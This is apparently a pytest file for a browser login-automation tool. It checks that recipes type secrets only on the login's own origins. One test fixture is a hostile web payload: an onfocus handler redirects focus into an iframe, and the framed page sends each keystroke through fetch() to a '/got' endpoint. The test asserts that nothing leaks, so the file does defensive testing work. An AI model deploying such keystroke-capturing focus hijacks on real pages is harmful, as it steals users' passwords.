"""A recipe types its secrets on the login's own origins alone, whatever takes the focus."""

from pathlib import Path

import pytest

from sextant.assembly import AbsentPerson
from sextant.errors import LoginFailed
from sextant.login.recipes import read_recipe
from sextant.login.sign_in import confirmed_by_recipe, log_in
from sextant.settings import load
from sextant.types.secrets import NOTHING_TYPED, SecretUse
from tests.devices.places import Places

RECIPE = '[[steps]]\nfield = "{}"\n{}\n'
GIVES = "onfocus='document.querySelector(`iframe`).contentWindow.focus()'"
THIEF = "<input id=i oninput='fetch(`/got?${this.value}`)'><script>onfocus = () => i.focus()</script>"


@pytest.mark.browser
@pytest.mark.parametrize("what", ['secret = "env:APP_PASSWORD"', 'value = "ada@example.org"'])
def test_no_recipe_types_into_a_frame_that_took_the_focus(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    monkeypatch.setenv("APP_PASSWORD", "hunter2-the-secret")
    settings = load({"browser.profile": tmp_path / "profile"}, environ={"HOME": str(tmp_path)}, directory=tmp_path)
    kind = "password" if "secret" in what else "email"
    with Places() as places:
        frame = "<iframe src='http://localhost:{port}/ad'></iframe>"
        places.pages["/"] = f"<h1>Login</h1><input type={kind} aria-label=Name {GIVES}>{frame}"
        places.pages["/ad"] = THIEF
        recipe = read_recipe(RECIPE.format("Name", what), "r.toml")
        with pytest.raises(LoginFailed, match=NOTHING_TYPED):
            log_in(places.url(), settings, AbsentPerson(), recipe)
        assert not [line for line in places.at("localhost") if "/got" in line]


@pytest.mark.parametrize(
    ("origin", "start", "allowed"),
    [
        ("https://app.example", "https://app.example/login", True),
        ("https://ads.example", "https://app.example/login", False),
        ("http://app.example", "https://app.example/login", False),
        ("null", "https://app.example/login", False),
        ("https://ads.example", "*", False),
        ("file://", "file:///home/ada/login.html", True),
    ],
)
def test_a_recipe_confirms_its_secrets_for_the_logins_own_origins_alone(origin: str, start: str, allowed: bool) -> None:
    assert confirmed_by_recipe((start,), SecretUse("pin", origin, "'Name' (text)", "it shows its text")) is allowed
